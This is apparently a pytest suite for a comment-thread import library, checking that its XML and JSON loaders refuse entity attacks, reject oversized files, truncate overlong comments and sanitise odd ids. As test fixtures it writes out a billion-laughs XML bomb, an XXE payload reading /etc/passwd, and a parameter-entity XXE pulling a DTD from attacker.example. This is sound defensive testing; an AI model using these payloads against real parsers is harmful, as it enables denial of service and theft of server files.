"""Hostile input: XML bombs and external entities, oversized files, overlong bodies, odd ids."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import threadwidget.formats._common as common
from threadwidget.core.models import MAX_BODY_CHARS
from threadwidget.formats import ThreadFileError, ThreadLoadWarning, load, load_with_report

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE disqus [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<disqus><thread><title>&lol9;</title></thread></disqus>
"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><title>&xxe;</title></item></channel></rss>
"""

XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<feed xmlns="http://www.w3.org/2005/Atom"></feed>
"""


@pytest.mark.parametrize(
    ("payload", "fmt"),
    [(BILLION_LAUGHS, "Disqus XML"), (XXE, "WordPress WXR"), (XXE_PARAMETER, "Blogger Atom")],
)
def test_entity_attacks_are_refused(tmp_path: Path, payload: str, fmt: str) -> None:
    path = tmp_path / "evil.xml"
    path.write_text(payload, encoding="utf-8")
    with pytest.raises(ThreadFileError) as info:
        load(path)
    message = str(info.value)
    assert message.startswith(f"{path} ({fmt}), line ")
    assert "refused" in message and "entities" in message


def test_attack_refused_even_with_explicit_format() -> None:
    with pytest.raises(ThreadFileError, match="refused"):
        load(text=BILLION_LAUGHS, format="disqus")


def test_oversized_file_refused_before_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert common.MAX_FILE_BYTES == 200 * 1024 * 1024
    monkeypatch.setattr(common, "MAX_FILE_BYTES", 1000)
    path = tmp_path / "big.json"
    path.write_text(json.dumps({"x": "y" * 2000}), encoding="utf-8")
    with pytest.raises(
        ThreadFileError, match=r"big\.json: the file is .* MB; files over .* are refused"
    ):
        load(path)


def test_missing_file() -> None:
    with pytest.raises(ThreadFileError, match="cannot read the file"):
        load("/nonexistent/thread.json")


def _hn(text: str) -> dict:
    return {
        "id": 1,
        "created_at_i": 1337000700,
        "type": "story",
        "author": "a",
        "title": "t",
        "children": [
            {
                "id": 2,
                "created_at_i": 1337000800,
                "type": "comment",
                "author": "b",
                "text": text,
                "children": [],
            }
        ],
    }


def test_overlong_body_is_truncated_with_marker_and_reported(tmp_path: Path) -> None:
    path = tmp_path / "long.json"
    path.write_text(json.dumps(_hn("word " * 6000)), encoding="utf-8")
    with pytest.warns(ThreadLoadWarning, match="truncated"):
        thread = load(path)
    body = thread.get("2").body
    assert len(body) <= MAX_BODY_CHARS
    assert body.endswith("more characters]") and "truncated by threadwidget" in body
    _, report = load_with_report(path)
    assert [p.id for p in report.truncated] == ["2"]


def test_ids_outside_the_pattern_are_mapped_consistently() -> None:
    mapper = common.IdMapper()
    weird = "tag:blogger.com,1999:blog-1/post 2"
    mapped = mapper(weird)
    assert mapped == mapper(weird)
    assert common.IdMapper()(weird) == mapped  # deterministic across imports
    assert mapped.startswith("tag:blogger.com_1999:blog-1_post_2-")
    assert mapper("ok-id") == "ok-id"
    assert len(mapper("x" * 200)) <= 64
    # A sanitized id that collides with a real one gets a longer hash.
    other = common.IdMapper()
    taken = other("a b")
    assert other(taken) != taken and other(taken) == other(taken)


def test_mapped_ids_keep_parent_links() -> None:
    data = {
        "ancestors": [],
        "status": {
            "id": "root",
            "created_at": "2022-01-01T00:00:00Z",
            "content": "<p>r</p>",
            "account": {"acct": "a"},
        },
        "descendants": [
            {
                "id": "a/1",
                "in_reply_to_id": "root",
                "created_at": "2022-01-01T00:01:00Z",
                "content": "x",
                "account": {"acct": "b"},
            },
            {
                "id": "b 2",
                "in_reply_to_id": "a/1",
                "created_at": "2022-01-01T00:02:00Z",
                "content": "y",
                "account": {"acct": "c"},
            },
        ],
    }
    thread, _ = load_with_report(text=json.dumps(data))
    first, second = thread.comments
    assert first.id != "a/1" and second.parent_id == first.id


def test_errors_argument_is_checked() -> None:
    with pytest.raises(ValueError, match="errors must be"):
        load(text="{}", errors="ignore")  # type: ignore[arg-type]
